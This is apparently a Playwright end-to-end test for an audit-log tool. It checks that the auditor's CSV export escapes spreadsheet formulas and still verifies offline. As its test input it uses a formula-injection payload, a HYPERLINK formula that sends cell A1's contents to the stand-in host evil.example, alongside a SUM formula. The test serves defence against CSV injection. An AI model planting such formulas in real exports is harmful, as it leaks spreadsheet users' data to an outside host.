import { readFileSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "@playwright/test";
import { cli, PRODUCTION, resetProduction, stateFile } from "./accounts";

// Issue 16: an auditor's CSV export is safe to open in a spreadsheet, and still proves the chain offline.

test.describe("an auditor's CSV export", () => {
  test.use({ storageState: stateFile("auditor") });

  test("neutralises cells a spreadsheet would run, and still verifies offline", async ({ page }) => {
    resetProduction();
    // Free text reaches the log from the CLI too: an actor and a reason a spreadsheet would run as formulas.
    const actor = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
    const r = cli("rollback", "--to", PRODUCTION, "--actor", actor, "--reason", "+1-2@SUM(A1:A9)");
    expect(r.status, r.stderr).toBe(0);

    await page.goto("/audit");
    const download = page.waitForEvent("download");
    await page.getByRole("link", { name: "Export CSV" }).click();
    const file = join(process.env.E2E_DIR ?? "/tmp", "formulas.csv");
    await (await download).saveAs(file);
    const csv = readFileSync(file, "utf8");
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open"")"`);
    expect(csv).toContain(`"'+1-2@SUM(A1:A9)"`);
    expect(csv).not.toMatch(/(^|,)"?[=+@\t]/m);
    const verify = cli("audit", "verify", "--file", file, "--json");
    expect(verify.status, verify.stdout).toBe(0);
    expect(JSON.parse(verify.stdout)).toMatchObject({ ok: true, format: "csv" });
  });
});
